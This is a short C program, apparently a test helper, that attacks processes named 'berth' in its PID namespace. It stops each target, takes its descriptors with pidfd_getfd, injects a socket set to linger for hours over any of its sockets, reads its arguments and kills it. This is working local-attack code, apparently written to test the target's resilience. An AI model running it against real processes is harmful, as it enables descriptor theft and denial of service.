// Takes the sockets of whatever is started in this pid namespace before it has executed its command, and sends a socket over
// them whose last close waits for hours (SO_LINGER). Needs CAP_SYS_PTRACE. Says "ready", then
// of each whether that was done: "sent", "none" where there was no socket, or "late"; and its
// arguments, as anybody sees them.
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

// Connected, with bytes that nobody will read: it is closed when they have been, or the time is over.
static int lingering(void) {
    static char bytes[1 << 20];
    struct sockaddr_in at = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    struct linger hours = {1, 20000};
    socklen_t length = sizeof at;
    int listener = socket(AF_INET, SOCK_STREAM, 0), fd = socket(AF_INET, SOCK_STREAM, 0);
    if (bind(listener, (void *)&at, sizeof at) < 0 || listen(listener, 1) < 0 || getsockname(listener, (void *)&at, &length) < 0) exit(1);
    if (connect(fd, (void *)&at, sizeof at) < 0 || accept(listener, NULL, NULL) < 0) exit(1);
    setsockopt(fd, SOL_SOCKET, SO_LINGER, &hours, sizeof hours);
    while (send(fd, bytes, sizeof bytes, MSG_DONTWAIT) > 0) continue;
    return fd;
}

static int send_over(int to, int fd) {
    char byte = 0, control[CMSG_SPACE(sizeof fd)] = {0};
    struct iovec data = {&byte, 1};
    struct msghdr message = {.msg_iov = &data, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control};
    struct cmsghdr *header = CMSG_FIRSTHDR(&message);
    *header = (struct cmsghdr){.cmsg_len = CMSG_LEN(sizeof fd), .cmsg_level = SOL_SOCKET, .cmsg_type = SCM_RIGHTS};
    memcpy(CMSG_DATA(header), &fd, sizeof fd);
    return (int)sendmsg(to, &message, MSG_DONTWAIT | MSG_NOSIGNAL);
}

static void attack(int pid, int fd) {
    char link[64], target[256] = "";
    kill(pid, SIGSTOP);
    int process = (int)syscall(SYS_pidfd_open, pid, 0);
    snprintf(link, sizeof link, "/proc/%d/exe", pid);
    if (readlink(link, target, sizeof target - 1) < 0 || !strstr(target, "berth")) {
        printf("late %d\n", pid);
        kill(pid, SIGCONT);
        return;
    }
    bool sent = false;
    char arguments[256] = "";
    snprintf(link, sizeof link, "/proc/%d/cmdline", pid);
    int shown = open(link, O_RDONLY);
    for (ssize_t k = read(shown, arguments, sizeof arguments - 1) - 1; k >= 0; k--)
        if (arguments[k] == '\0') arguments[k] = ' ';
    close(shown);
    for (int number = 0; number < 64; number++) {
        struct stat status;
        int taken = (int)syscall(SYS_pidfd_getfd, process, number, 0);
        if (taken < 0) continue;
        if (fstat(taken, &status) == 0 && S_ISSOCK(status.st_mode) && send_over(taken, fd) >= 0) sent = true;
        close(taken);
    }
    // Its last close would have this program wait.
    if (sent) close(fd);
    printf("%s %s\n", sent ? "sent" : "none", arguments);
    kill(pid, SIGKILL);
}

int main(void) {
    int last = getpid(), fd = lingering();
    setvbuf(stdout, NULL, _IOLBF, 0);
    puts("ready");
    for (;;)
        for (int pid = last + 1; pid < last + 8; pid++) {
            if (kill(pid, 0) < 0) continue;
            attack(pid, fd);
            fd = lingering();
            last = pid;
        }
}
